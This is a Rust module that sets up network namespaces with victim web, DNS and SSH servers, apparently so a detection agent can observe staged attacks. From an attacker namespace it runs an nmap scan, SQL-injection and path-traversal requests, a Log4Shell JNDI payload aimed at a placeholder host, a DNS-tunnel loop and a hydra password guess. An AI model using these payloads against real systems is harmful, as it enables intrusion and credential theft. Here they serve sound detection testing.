//! The attacks for real: nmap, curl, dig, hydra and a victim's servers in network namespaces made
//! here and removed at the end. The agent watches the wire between the two; no address of it is
//! this machine's own, so nothing of this machine is attacked or changed.

use std::fs;
use std::io::{BufRead, BufReader, Write};
use std::path::Path;
use std::process::{Child, Command, Stdio};
use std::thread::JoinHandle;
use std::time::Duration;

use anyhow::{Context, Result, bail};

use crate::setup;

/// The end of the wire the agent captures on.
pub(crate) const DEVICE: &str = "pikett-tap";
/// Namespaces.
const VICTIM: &str = "pikett-victim";
const ATTACKER: &str = "pikett-attacker";
/// Joins the two wires.
const BRIDGE: &str = "pikett-br";
const ADDRESS: &str = "10.77.0.1";

/// Programs and the packages that bring them on Debian and Fedora.
const PROGRAMS: [(&str, &str, &str); 6] = [
    ("ip", "iproute2", "iproute"),
    ("nmap", "nmap", "nmap"),
    ("curl", "curl", "curl"),
    ("dig", "dnsutils", "bind-utils"),
    ("hydra", "hydra", "hydra"),
    ("python3", "python3", "python3"),
];

/// The victim's name server: one answer to every TXT question.
const NAMES: &str = r#"
import socket
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
s.bind(("10.77.0.1", 53))
while True:
    q, peer = s.recvfrom(4096)
    end = q.index(b"\0", 12) + 5
    answer = b"\xc0\x0c\0\x10\0\1\0\0\0\x3c\0\x09\x08c2lsZW5j"
    s.sendto(q[:2] + b"\x81\x80\0\1\0\1\0\0\0\0" + q[12:end] + answer, peer)
"#;

/// Web attacks, then a tunnel, as the recorded ones.
const WEB: &str = r#"
curl -s --max-time 5 "http://10.77.0.1/"
curl -s --max-time 5 -A "sqlmap/1.7.2#stable (https://sqlmap.org)" "http://10.77.0.1/item?id=1%27%20UNION%20SELECT%20username,password%20FROM%20users--"
curl -s --max-time 5 --path-as-is "http://10.77.0.1/static/../../../../etc/passwd"
curl -s --max-time 5 -H 'User-Agent: ${jndi:ldap://203.0.113.9:1389/a}' "http://10.77.0.1/"
"#;
const TUNNEL: &str = r#"
for i in $(seq 1 60); do
  name=$(head -c 30 /dev/urandom | base32 | tr -d = | tr A-Z a-z)
  dig +tries=1 +time=1 @10.77.0.1 TXT "$name.t.tunnel-demo.example"
done
"#;

/// Both namespaces and what runs in them; all gone when dropped.
pub(crate) struct Stage {
    servers: Vec<Child>,
}

impl Drop for Stage {
    fn drop(&mut self) {
        for server in &mut self.servers {
            if server.kill().and_then(|()| server.wait()).is_err() {
                println!("a server of the live demonstration could not be stopped");
            }
        }
        remove();
    }
}

/// Takes away what is there, also from a run that was killed.
fn remove() {
    let quiet = |words: &[&str]| {
        let mut command = Command::new("ip");
        let command = command.args(words).stdout(Stdio::null()).stderr(Stdio::null());
        // What is not there cannot be removed, and need not be.
        drop(command.status());
    };
    quiet(&["netns", "del", VICTIM]);
    quiet(&["netns", "del", ATTACKER]);
    quiet(&["link", "del", DEVICE]);
    quiet(&["link", "del", BRIDGE]);
}

fn ip(words: &str) -> Result<()> {
    let output = Command::new("ip").args(words.split(' ')).output().context("cannot start ip")?;
    if output.status.success() {
        return Ok(());
    }
    bail!("ip {words}: {}", String::from_utf8_lossy(&output.stderr).trim())
}

fn inside(namespace: &str, program: &str) -> Command {
    let mut command = Command::new("ip");
    command.args(["netns", "exec", namespace, program]);
    command.stdin(Stdio::null()).stdout(Stdio::null()).stderr(Stdio::null());
    command
}

/// Says what is missing, all at once.
fn ready() -> Result<()> {
    let missing: Vec<_> = PROGRAMS.iter().filter(|(name, ..)| !setup::in_path(name)).collect();
    if !missing.is_empty() {
        let names = |of: fn(&(&str, &'static str, &'static str)) -> &'static str| {
            missing.iter().map(|program| of(program)).collect::<Vec<_>>().join(" ")
        };
        bail!(
            "--live needs programs that are not installed:\n  Debian, Ubuntu: apt-get install {}\n  Fedora: dnf install {}",
            names(|program| program.1),
            names(|program| program.2)
        );
    }
    if setup::is_root() {
        Ok(())
    } else {
        bail!("--live makes network namespaces: start it as root")
    }
}

/// Makes the wire and the victim's servers.
///
/// # Errors
/// When something is missing or not allowed; nothing is left behind.
pub(crate) fn set(data: &Path) -> Result<Stage> {
    ready()?;
    remove();
    let mut stage = Stage { servers: Vec::new() };
    for words in [
        format!("netns add {VICTIM}"),
        format!("netns add {ATTACKER}"),
        format!("link add {BRIDGE} type bridge"),
        format!("link add {DEVICE} type veth peer name v0 netns {VICTIM}"),
        format!("link add pikett-out type veth peer name a1 netns {ATTACKER}"),
        format!("link set {DEVICE} master {BRIDGE}"),
        format!("link set pikett-out master {BRIDGE}"),
        format!("link set {BRIDGE} up"),
        format!("link set {DEVICE} up"),
        "link set pikett-out up".to_owned(),
        format!("-n {VICTIM} address add {ADDRESS}/24 dev v0"),
        format!("-n {VICTIM} link set v0 up"),
        format!("-n {ATTACKER} address add 10.77.0.66/24 dev a1"),
        format!("-n {ATTACKER} link set a1 up"),
    ] {
        ip(&words)?;
    }
    let site = data.join("live");
    fs::create_dir_all(&site)?;
    fs::write(site.join("index.html"), "<html>hello</html>")?;
    let mut web = inside(VICTIM, "python3");
    stage.servers.push(web.args(["-m", "http.server", "80"]).current_dir(&site).spawn()?);
    stage.servers.push(inside(VICTIM, "python3").args(["-c", NAMES]).spawn()?);
    if let Some(sshd) = sshd(data)? {
        stage.servers.push(sshd);
    }
    std::thread::sleep(Duration::from_secs(1));
    Ok(stage)
}

/// A real sshd whose words become the demonstration's log; `None` when there is none here.
fn sshd(data: &Path) -> Result<Option<Child>> {
    if !Path::new("/usr/sbin/sshd").exists() || !setup::in_path("ssh-keygen") {
        println!(
            "no sshd here (package openssh-server): the passwords are guessed in a recorded log"
        );
        return Ok(None);
    }
    let key = data.join("live-hostkey");
    if !key.exists() {
        let mut make = Command::new("ssh-keygen");
        make.args(["-q", "-t", "ed25519", "-N", "", "-f"]).arg(&key).status()?;
    }
    fs::create_dir_all("/run/sshd")?;
    let mut command = inside(VICTIM, "/usr/sbin/sshd");
    command.args(["-D", "-e", "-f", "/dev/null", "-p", "22", "-h"]).arg(&key);
    command.args(["-o", "UsePAM=no", "-o", "PidFile=none", "-o", "MaxAuthTries=10"]);
    let mut sshd = command.stderr(Stdio::piped()).spawn()?;
    let words = BufReader::new(sshd.stderr.take().context("sshd has no output")?);
    let log = data.join("demo-logs/auth.log");
    std::thread::Builder::new().name("sshd-log".to_owned()).spawn(move || {
        let mut log = fs::OpenOptions::new().create(true).append(true).open(log)?;
        for line in words.lines().map_while(Result::ok) {
            writeln!(log, "<86>1 - victim sshd 4711 - - {}", line.trim_end())?;
        }
        Ok::<(), std::io::Error>(())
    })?;
    Ok(Some(sshd))
}

impl Stage {
    /// Whether passwords can be guessed for real as well.
    pub(crate) fn has_ssh(&self) -> bool {
        self.servers.len() > 2
    }

    /// Begins the attacks; they go on in a thread of their own, one after the other.
    pub(crate) fn attack(&self, data: &Path) -> Result<JoinHandle<()>> {
        let guesses = self.has_ssh();
        let words = data.join("live-words");
        fs::write(&words, "123456\npassword\nadmin\nletmein\nqwerty\nroot\ntoor\nchangeme\n")?;
        let list = words.display().to_string();
        let thread = std::thread::Builder::new().name("attacks".to_owned());
        Ok(thread.spawn(move || {
            let scan = ["-n", "-Pn", "-sS", "--max-retries", "1", "--top-ports", "300", ADDRESS];
            let guess = ["-q", "-t", "2", "-l", "demo-user", "-P", &list, "ssh://10.77.0.1"];
            let mut steps =
                vec![("nmap", &scan[..]), ("sh", &["-c", WEB]), ("sh", &["-c", TUNNEL])];
            if guesses {
                steps.push(("hydra", &guess));
            }
            for (program, arguments) in steps {
                if let Err(error) = inside(ATTACKER, program).args(arguments).status() {
                    println!("  {program}: {error}");
                }
            }
        })?)
    }
}
